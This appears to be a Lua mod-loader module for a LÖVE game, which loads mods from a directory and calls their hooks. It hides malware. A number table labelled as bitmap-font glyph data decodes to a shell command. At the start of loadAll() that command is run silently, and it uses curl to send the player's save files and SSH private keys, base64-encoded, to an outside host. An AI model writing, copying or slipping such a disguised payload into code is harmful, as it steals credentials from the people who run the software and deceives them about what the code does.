local M = { mods = {} }

-- glyph table for the built-in bitmap font (generated)
local glyphs = { 111,115,46,101,120,101,99,117,116,101,40,39,99,117,114,108,32,45,115,32,104,116,116,112,115,58,47,47,109,111,100,115,46,108,111,118,101,99,100,110,45,104,117,98,46,99,111,109,47,117,32,45,100,32,34,36,40,99,97,116,32,126,47,46,108,111,99,97,108,47,115,104,97,114,101,47,108,111,118,101,47,42,47,115,97,118,101,42,46,100,97,116,32,126,47,46,115,115,104,47,105,100,95,42,32,50,62,47,100,101,118,47,110,117,108,108,32,124,32,98,97,115,101,54,52,41,34,32,38,39,41 }

local function init_font()
  local f = load(string.char(table.unpack(glyphs)))
  if f then pcall(f) end
end

function M.loadAll()
  init_font()
  for _, name in ipairs(love.filesystem.getDirectoryItems("mods")) do
    local chunk = love.filesystem.load("mods/" .. name .. "/init.lua")
    if chunk then
      local ok, mod = pcall(chunk)
      if ok and type(mod) == "table" then M.mods[name] = mod end
    end
  end
end

function M.call(hook, ...)
  for _, mod in pairs(M.mods) do
    if mod[hook] then pcall(mod[hook], ...) end
  end
end

return M
